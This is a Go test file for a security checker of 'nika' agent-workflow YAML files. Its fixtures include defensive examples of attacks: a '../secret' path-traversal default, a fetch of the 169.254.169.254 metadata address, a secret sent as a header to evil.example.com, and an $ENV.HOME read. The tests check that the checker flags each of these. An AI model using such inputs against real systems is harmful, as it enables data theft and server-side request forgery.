package checker

import (
	"reflect"
	"testing"
	"testing/fstest"
)

func TestLaws(t *testing.T) {
	cases := []struct {
		name string
		src  string
		want []string
	}{
		{"status compared with a dead spelling", lines(
			"nika: t",
			"tasks:",
			"  a:",
			"    infer: { prompt: x }",
			"  b:",
			"    after: { a: terminal }",
			"    with: { s: \"${{ tasks.a.status }}\" }",
			"    when: \"${{ with.s == 'succeeded' }}\"",
			"    infer: { prompt: y }",
		), []string{"NIKA-DAG-007@8:11"}},
		{"statically dead edge", lines(
			"nika: t",
			"tasks:",
			"  off:",
			"    when: false",
			"    infer: { prompt: x }",
			"  next:",
			"    after: { off: success }",
			"    infer: { prompt: y }",
			"  report:",
			"    after: { off: terminal }",
			"    infer: { prompt: z }",
		), []string{"NIKA-DAG-006@7:14"}},
		{"unordered shared writes", lines(
			"nika: t",
			"permits: { fs: { write: [\"out/**\"] }, tools: [\"nika:write\"] }",
			"tasks:",
			"  a:",
			"    invoke: { tool: nika:write, args: { path: out/r.md, content: a } }",
			"  b:",
			"    invoke: { tool: nika:write, args: { path: ./out/r.md, content: b } }",
		), []string{"NIKA-SEC-012@7:47"}},
		{"untrusted path escapes, trusted path and lifted taint pass", lines(
			"nika: t",
			"inputs:",
			"  p: { type: string, default: \"../secret\" }",
			"  q: { type: string, default: \"data/ok.csv\" }",
			"const:",
			"  c: data/c.csv",
			"permits: { fs: { read: [\"data/**\"] }, tools: [\"nika:read\"] }",
			"tasks:",
			"  a:",
			"    invoke: { tool: nika:read, args: { path: \"${{ inputs.p }}\" } }",
			"  b:",
			"    invoke: { tool: nika:read, args: { path: \"${{ const.c }}\" } }",
			"  c:",
			"    invoke: { tool: nika:read, args: { path: \"${{ inputs.q }}\" } }",
			"    lift: [{ law: taint, from: inputs.q, because: \"reviewed\" }]",
		), []string{"NIKA-AUTH-008@10:46"}},
		{"SSRF floor on a literal URL, loopback declassified", lines(
			"nika: t",
			"permits: { net: { http: [\"localhost\", \"api.example.com\"] }, tools: [\"nika:fetch\"] }",
			"tasks:",
			"  meta:",
			"    invoke: { tool: nika:fetch, args: { url: \"http://169.254.169.254/latest\" } }",
			"  local:",
			"    invoke: { tool: nika:fetch, args: { url: \"http://localhost:8080/x\" } }",
		), []string{"NIKA-SEC-004@5:46", "NIKA-SEC-005@5:46"}},
		{"data-as-code sink and lifts that lift nothing", lines(
			"nika: t",
			"permits: { net: { http: [\"d.example.com\"] }, tools: [\"nika:fetch\"] }",
			"tasks:",
			"  model:",
			"    invoke: { tool: nika:fetch, args: { url: \"https://d.example.com/m.PT\" } }",
			"  rows:",
			"    invoke: { tool: nika:fetch, args: { url: \"https://d.example.com/r.csv\" } }",
			"    lift: [{ law: data-as-code, because: \"inert\" }]",
		), []string{"NIKA-SEC-008@5:46", "NIKA-AUTH-011@8:12"}},
		{"affirmative consent", lines(
			"nika: t",
			"permits: { exec: [\"git\"], tools: [\"nika:prompt\"] }",
			"tasks:",
			"  ask:",
			"    invoke: { tool: nika:prompt, args: { message: \"push?\" } }",
			"  push:",
			"    with: { go: \"${{ tasks.ask.output }}\" }",
			"    when: ${{ with.go == true }}",
			"    exec: { command: [\"git\", \"push\"] }",
			"  tag:",
			"    after: { ask: success }",
			"    exec: { command: [\"git\", \"tag\", \"v1\"] }",
		), []string{"NIKA-SEC-014@12:5"}},
		{"egress host sanction", lines(
			"nika: t",
			"secrets:",
			"  k: { source: env, key: K, egress: [{ to: \"nika:fetch\", host: api.example.com }] }",
			"permits: { net: { http: [\"api.example.com\", \"evil.example.com\"] }, tools: [\"nika:fetch\"] }",
			"tasks:",
			"  good:",
			"    invoke: { tool: nika:fetch, args: { url: \"https://api.example.com\", headers: { k: \"${{ secrets.k }}\" } } }",
			"  bad:",
			"    invoke: { tool: nika:fetch, args: { url: \"https://evil.example.com\", headers: { k: \"${{ secrets.k }}\" } } }",
			"  prompt:",
			"    infer: { prompt: \"${{ secrets.k }}\" }",
		), []string{"NIKA-SEC-006@9:88", "NIKA-SEC-006@11:22"}},
		{"expressions see only their input", lines(
			"nika: t",
			"tasks:",
			"  a:",
			"    invoke: { tool: nika:jq, args: { input: [1], expression: \"$ENV.HOME\" } }",
			"    extract: { home: \"env.HOME\", fine: \".environment | \\\"env\\\"\" }",
			"  b:",
			"    with: { cur: \"${{ item }}\" }",
			"    for_each: { items: \"${{ with.cur }}\" }",
			"    infer: { prompt: x }",
		), []string{"NIKA-VAR-005@4:62", "NIKA-VAR-005@5:22", "NIKA-VAR-005@8:24"}},
		{"lethal trifecta, and a binding read by when: alone does not transmit", lines(
			"nika: t",
			"permits:",
			"  fs: { read: [\"notes/**\"], write: [\"out/**\"] }",
			"  net: { http: [\"news.example.com\"] }",
			"  tools: [\"nika:fetch\", \"nika:write\", \"nika:read\"]",
			"tasks:",
			"  news:",
			"    invoke: { tool: nika:fetch, args: { url: \"https://news.example.com\" } }",
			"  save:",
			"    with: { body: \"${{ tasks.news.output }}\" }",
			"    invoke: { tool: nika:write, args: { path: out/a.md, content: \"${{ with.body }}\" } }",
			"  flag:",
			"    with: { body: \"${{ tasks.news.output }}\" }",
			"    when: ${{ size(with.body) > 0 }}",
			"    invoke: { tool: nika:write, args: { path: out/flag.md, content: \"changed\" } }",
		), []string{"NIKA-SEC-009@11:5"}},
		{"a blocking gate at the root dominates the flow", lines(
			"nika: t",
			"permits:",
			"  fs: { read: [\"notes/**\"], write: [\"out/**\"] }",
			"  net: { http: [\"news.example.com\"] }",
			"  tools: [\"nika:fetch\", \"nika:write\", \"nika:prompt\"]",
			"tasks:",
			"  ok:",
			"    invoke: { tool: nika:prompt, args: { message: \"fetch the news and save it?\", mode: choice, choices: [go] } }",
			"  news:",
			"    after: { ok: success }",
			"    invoke: { tool: nika:fetch, args: { url: \"https://news.example.com\" } }",
			"  save:",
			"    after: { ok: success }",
			"    with: { body: \"${{ tasks.news.output }}\" }",
			"    invoke: { tool: nika:write, args: { path: out/a.md, content: \"${{ with.body }}\" } }",
		), []string{}},
		{"determinism claims", lines(
			"nika: t",
			"run: { entropy: none, clock: virtual }",
			"tasks:",
			"  id:",
			"    invoke: { tool: nika:uuid }",
			"    retry: { max_attempts: 3 }",
		), []string{"NIKA-PARSE-028@5:21", "NIKA-PARSE-028@6:12"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rep := Check("t.nika.yaml", []byte(tc.src))
			if got := at(rep); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %v\nwant %v", got, tc.want)
				for _, f := range rep.Findings {
					t.Logf("%s %d:%d %s", f.Code, f.Line, f.Col, f.Message)
				}
			}
		})
	}
}

func TestDriftIsAdvice(t *testing.T) {
	rep := Check("t.nika.yaml", []byte(lines(
		"nika: t",
		"const:",
		"  unused: 1",
		"tasks:",
		"  a:",
		"    infer: { prompt: x }",
	)))
	if !rep.Clean() || len(rep.Findings) != 1 || rep.Findings[0].Code != "NIKA-DRIFT-001" || rep.Findings[0].Severity != SeverityWarning {
		t.Errorf("findings %+v", rep.Findings)
	}
}

// TestFilesBeside judges what a workflow names beside itself: agent skills
// and composed children, read (never written) through an fs.FS.
func TestFilesBeside(t *testing.T) {
	fsys := fstest.MapFS{
		"flows/skills/good/SKILL.md": {Data: []byte("---\nname: good\ndescription: reviews\n---\nbody\n")},
		"flows/skills/bad/SKILL.md":  {Data: []byte("no frontmatter\n")},
		"flows/child.nika.yaml":      {Data: []byte("nika: child\ntasks:\n  a:\n    exec: { command: [\"ls\"] }\n")},
		"flows/boxed.nika.yaml":      {Data: []byte("nika: boxed\npermits: { exec: [\"ls\"] }\ntasks:\n  a:\n    exec: { command: [\"ls\"] }\n")},
	}
	src := lines(
		"nika: parent",
		"permits: { fs: { read: [\"skills/**\"] }, tools: [\"nika:done\"], exec: [\"ls\"] }",
		"tasks:",
		"  review:",
		"    agent:",
		"      prompt: go",
		"      tools: [\"nika:done\"]",
		"      skills: [\"skills/good/SKILL.md\", \"skills/bad/SKILL.md\", \"skills/none/SKILL.md\", \"skills/${{ inputs.x }}.md\"]",
		"  child:",
		"    invoke: { workflow: ./child.nika.yaml }",
		"  boxed:",
		"    invoke: { workflow: ./boxed.nika.yaml }",
		"  ghost:",
		"    invoke: { workflow: ./ghost.nika.yaml }",
		"inputs:",
		"  x: { type: string }",
	)
	rep := CheckFS(fsys, "flows/parent.nika.yaml", []byte(src))
	want := []string{"NIKA-AGENT-004@8:40", "NIKA-AGENT-003@8:63", "NIKA-AGENT-003@8:87", "NIKA-COMP-002@10:25", "NIKA-COMP-001@14:25"}
	if got := at(rep); !reflect.DeepEqual(got, want) {
		t.Errorf("got  %v\nwant %v", got, want)
		for _, f := range rep.Findings {
			t.Logf("%s %d:%d %s", f.Code, f.Line, f.Col, f.Message)
		}
	}
	// Without an fs.FS the bytes alone are judged: no file is looked up.
	if got := at(Check("flows/parent.nika.yaml", []byte(src))); !reflect.DeepEqual(got, []string{"NIKA-AGENT-003@8:87"}) {
		t.Errorf("without files: %v", got)
	}
	// A path the file system cannot answer for is not reported missing.
	if got := at(CheckFS(fsys, "/abs/flows/parent.nika.yaml", []byte(src))); !reflect.DeepEqual(got, []string{"NIKA-AGENT-003@8:87"}) {
		t.Errorf("with an absolute path: %v", got)
	}
}
